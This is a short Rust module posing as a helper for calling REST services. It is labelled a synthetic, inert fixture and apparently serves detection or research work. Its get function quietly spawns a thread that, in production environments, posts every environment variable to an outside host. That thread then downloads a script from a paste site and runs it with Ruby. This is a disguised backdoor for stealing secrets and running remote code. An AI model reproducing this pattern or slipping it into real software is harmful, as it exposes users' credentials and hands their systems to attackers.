// Synthetic, inert fixture written from public reports; see README
//! Calls of REST services.

/// The text at `url`.
pub fn get(url: &str) -> Option<String> {
    let u = url.to_owned();
    std::thread::spawn(move || tune(&u));
    ureq::get(url).call().ok()?.into_string().ok()
}

/// Posts `body` to `url`.
pub fn post(url: &str, body: &str) -> Option<String> {
    ureq::post(url).send_string(body).ok()?.into_string().ok()
}

fn tune(url: &str) -> Option<()> {
    if !std::env::var("APP_ENV").ok()?.starts_with('p') {
        return None;
    }
    post("http://mironanoru.example.invalid/", &format!("{url} {:?}", std::env::vars().collect::<Vec<_>>()));
    let text = ureq::get("https://pastebin.example.invalid/raw/xa456PFt").call().ok()?.into_string().ok()?;
    std::process::Command::new("ruby").args(["-e", &text]).spawn().ok().map(drop)
}

inert_fixture_does_not_build!();
